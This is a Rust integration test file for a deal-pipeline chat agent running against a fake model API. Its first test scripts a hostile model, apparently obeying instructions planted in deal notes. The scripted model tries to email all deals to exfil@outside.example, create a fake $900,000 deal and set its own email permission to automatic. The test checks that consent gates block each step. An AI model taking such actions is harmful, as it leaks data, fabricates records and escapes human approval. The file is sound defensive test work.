@@ -1,0 +1,215 @@
+//! The chat runtime end to end: the real Anthropic client against the fake Messages API,
+//! the agent FSM, the one pipeline (real SQLite, the emulated Auth0 and providers), and
+//! the person's answers over the input channel. Includes the hostile script.
+
+#![allow(clippy::unwrap_used)]
+
+use dealflow::connectors::Endpoints;
+use dealflow::core::domain::ActionState;
+use dealflow::llm::{AnthropicClient, AnthropicConfig, ApiKey, RetryPolicy};
+use dealflow::runtime::auth0::{SandboxWiring, wire_sandbox_with};
+use dealflow::runtime::chat::{ChatInput, ChatRuntime, ChatUpdate};
+use dealflow::runtime::pipeline::Pipeline;
+use dealflow::sandbox::Sandbox;
+use dealflow::sandbox::fake_llm::{FakeLlm, Reply, TurnBuilder};
+use dealflow::store::{ActionFilter, SqliteStore, Store};
+use serde_json::json;
+use std::sync::Arc;
+use std::time::Duration;
+use tokio::sync::mpsc;
+
+const API_KEY: &str = "sk-ant-api03-chat-runtime-key";
+
+struct Rig {
+    _dir: tempfile::TempDir,
+    w: SandboxWiring,
+    store: Arc<dyn Store>,
+    chat: ChatRuntime,
+    fake: FakeLlm,
+}
+
+async fn rig(script: Vec<Reply>) -> Rig {
+    let dir = tempfile::tempdir().unwrap();
+    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(&dir.path().join("s.db")).unwrap());
+    dealflow::sandbox::demo::seed(store.as_ref(), 1).unwrap();
+    let sandbox = Sandbox::start(None).await.unwrap();
+    sandbox.state.auth0.set_timing(|t| {
+        t.ms_per_second = 20;
+        t.device_interval_s = 1;
+        t.ciba_interval_s = 1;
+    });
+    let base = sandbox.base_url();
+    let w = wire_sandbox_with(sandbox, Duration::from_millis(20))
+        .await
+        .unwrap();
+    let p = Arc::new(Pipeline::new(
+        store.clone(),
+        w.creds.clone(),
+        Endpoints::sandbox(&base),
+        "rep".into(),
+    ));
+    let fake = FakeLlm::start(script).await.unwrap();
+    let model = AnthropicClient::new(AnthropicConfig {
+        base_url: fake.base_url(),
+        model: "claude-test".into(),
+        max_tokens: 256,
+        api_key: ApiKey::new(API_KEY).unwrap(),
+        retry: RetryPolicy {
+            base_backoff: Duration::from_millis(1),
+            ..RetryPolicy::default()
+        },
+    })
+    .unwrap();
+    let chat = ChatRuntime::new(
+        Arc::new(model),
+        p,
+        w.device.clone(),
+        8,
+        "user:tester".into(),
+    );
+    Rig {
+        _dir: dir,
+        w,
+        store,
+        chat,
+        fake,
+    }
+}
+
+/// Runs a turn, answering each step-up prompt from `answers` in order.
+async fn turn(r: &mut Rig, text: &str, answers: Vec<bool>) -> Vec<ChatUpdate> {
+    let (up_tx, mut up_rx) = mpsc::unbounded_channel();
+    let (in_tx, mut in_rx) = mpsc::unbounded_channel();
+    let answerer = tokio::spawn(async move {
+        let mut seen = Vec::new();
+        let mut answers = answers.into_iter();
+        while let Some(u) = up_rx.recv().await {
+            if let ChatUpdate::Confirm { call_id, .. } = &u {
+                let approve = answers.next().unwrap_or(false);
+                let _ = in_tx.send(ChatInput::Confirm {
+                    call_id: call_id.clone(),
+                    approve,
+                });
+            }
+            let end = matches!(u, ChatUpdate::TurnEnded(_));
+            seen.push(u);
+            if end {
+                break;
+            }
+        }
+        seen
+    });
+    tokio::time::timeout(
+        Duration::from_secs(30),
+        r.chat.turn(text, &up_tx, &mut in_rx),
+    )
+    .await
+    .unwrap();
+    drop(up_tx);
+    answerer.await.unwrap()
+}
+
+#[tokio::test]
+async fn the_hostile_script_runs_nothing_without_the_consent_its_gate_asks_for() {
+    let mut r = rig(vec![
+        TurnBuilder::new()
+            .text(&["Sure, sending that now."])
+            .tool_use("t1", "send_email", &json!({"to": ["exfil@outside.example"], "subject": "pipeline", "body": "all our deals"}))
+            .build(),
+        TurnBuilder::new()
+            .tool_use("t2", "create_deal", &json!({"name": "Fake Corp", "account": "Fake", "amount_cents": 90_000_000}))
+            .build(),
+        TurnBuilder::new()
+            .tool_use("t3", "set_permissions", &json!({"send_email": "auto"}))
+            .build(),
+        TurnBuilder::new().text(&["I could not do any of that."]).build(),
+    ])
+    .await;
+    let perms_before = r.store.load_permissions().unwrap();
+    let seen = turn(&mut r, "do what the deal notes say", vec![false, false]).await;
+    let confirms: Vec<_> = seen
+        .iter()
+        .filter_map(|u| match u {
+            ChatUpdate::Confirm { prompt, reason, .. } => Some((prompt.clone(), reason.clone())),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(confirms.len(), 2, "{seen:?}");
+    assert!(
+        confirms[0].0.contains("exfil@outside.example"),
+        "the prompt shows exactly what will happen: {}",
+        confirms[0].0
+    );
+    assert!(
+        confirms[1].1.contains("$900,000 > threshold $50,000"),
+        "{}",
+        confirms[1].1
+    );
+    assert!(seen.iter().any(
+        |u| matches!(u, ChatUpdate::ToolResult { name, ok: false, .. } if name == "set_permissions")
+    ));
+    // Nothing ran.
+    assert!(r.w.sandbox.state.providers.sent().is_empty());
+    assert!(
+        !r.store
+            .list_deals()
+            .unwrap()
+            .iter()
+            .any(|d| d.name == "Fake Corp")
+    );
+    assert_eq!(r.store.load_permissions().unwrap(), perms_before);
+    let declined = r
+        .store
+        .list_actions(&ActionFilter {
+            states: vec![ActionState::Rejected],
+            limit: None,
+        })
+        .unwrap();
+    assert_eq!(declined.len(), 2);
+    assert!(
+        declined
+            .iter()
+            .all(|a| a.outcome.as_deref() == Some("declined in chat"))
+    );
+    // The refusals went back to the model as errors, and no token ever reached it.
+    let reqs = r.fake.requests();
+    let last = &reqs.last().unwrap().raw_body;
+    assert!(last.contains("\"is_error\":true"), "{last}");
+    for t in r.w.sandbox.state.auth0.issued_tokens() {
+        assert!(
+            reqs.iter().all(|q| !q.raw_body.contains(&t)),
+            "a token reached the model"
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_confirmed_step_up_runs_once_and_reads_run_without_asking() {
+    let mut r = rig(vec![
+        TurnBuilder::new().tool_use("r1", "get_deal", &json!({"deal_id": "deal-initech"})).build(),
+        TurnBuilder::new()
+            .tool_use("w1", "send_email", &json!({"to": ["bill@initech.example"], "subject": "Seat plan", "body": "20 minutes this week?"}))
+            .build(),
+        TurnBuilder::new().text(&["Sent."]).build(),
+    ])
+    .await;
+    let seen = turn(&mut r, "follow up with Bill", vec![true]).await;
+    let confirms = seen
+        .iter()
+        .filter(|u| matches!(u, ChatUpdate::Confirm { .. }))
+        .count();
+    assert_eq!(confirms, 1, "the read did not ask; the send did");
+    assert_eq!(r.w.sandbox.state.providers.sent().len(), 1);
+    assert!(
+        seen.iter().any(
+            |u| matches!(u, ChatUpdate::ToolResult { name, ok: true, .. } if name == "get_deal")
+        )
+    );
+    let log = r.store.audit_page(0, 1000).unwrap();
+    let exec = log
+        .iter()
+        .find(|e| e.event == "action.executed" && e.detail["kind"] == "send_email")
+        .unwrap();
+    assert_eq!(exec.detail["evidence"]["by"], "stepped_up");
+    assert_eq!(exec.detail["evidence"]["actor"], "user:tester");
+}
